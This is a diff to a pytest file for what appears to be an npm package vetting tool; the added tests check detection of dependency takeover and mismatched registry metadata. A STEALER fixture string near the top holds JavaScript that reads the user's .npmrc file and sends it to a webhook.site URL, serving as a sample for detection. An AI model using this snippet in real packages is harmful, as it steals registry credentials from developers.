@@ -10,6 +10,7 @@ from typing import Any
 import pytest
 
 from vetting.made import npm_tarball, sdist
+from vetting.packuments import BROUGHT, TAKEN
 from vetting.test_lockfile import locked
 
 STEALER = "const s = require('fs').readFileSync(home + '/.npmrc');\nrequire('https').request('https://webhook.site/x').end(s);\n"
@@ -94,6 +95,31 @@ def test_what_was_looked_at_is_allowed_until_its_day(clew: Any) -> None:
     ran = clew("vet", "npm", "demo.tgz", "--no-detonate", "--fail-on", "review", "--allow", "allow.toml")
     assert (ran.code, ran.out[:7]) == (0, " allow ")
     assert "allowed by you until 2999-01-01: static.runs-decoded (read by us)" in ran.out
+
+
+def test_who_published_it_blocks_before_any_code_is_read(clew: Any) -> None:
+    taken = {"name": "hermes-http", "version": "1.14.1", "dependencies": {"plain-hash-js": "^4.2.1"}}
+    npm_tarball(Path("demo.tgz"), **taken)
+    Path("registry").mkdir()
+    Path("registry/own.json").write_text(json.dumps(TAKEN))
+    Path("registry/brought.json").write_text(json.dumps(BROUGHT))
+    ran = clew("vet", "npm", "demo.tgz", "--no-detonate", "--packument", "registry")
+    assert ran.code == 1
+    assert "reputation.takeover-dependency" in ran.out.splitlines()[1]
+    document = json.loads(
+        clew("vet", "npm", "demo.tgz", "--no-detonate", "--packument", "registry", "-f", "json").out
+    )
+    assert {one["name"]: one["state"] for one in document["packages"][0]["signals"]}[
+        "dependency-phantom"
+    ] == "hit"
+
+
+def test_metadata_of_another_package_is_no_answer(clew: Any) -> None:
+    npm_tarball(Path("demo.tgz"))
+    Path("other.json").write_text(json.dumps(BROUGHT))
+    ran = clew("vet", "npm", "demo.tgz", "--no-detonate", "--packument", "other.json")
+    assert ran.code == 4
+    assert "not looked at: reputation: no document of demo in other.json" in ran.out
 
 
 @pytest.mark.parametrize(
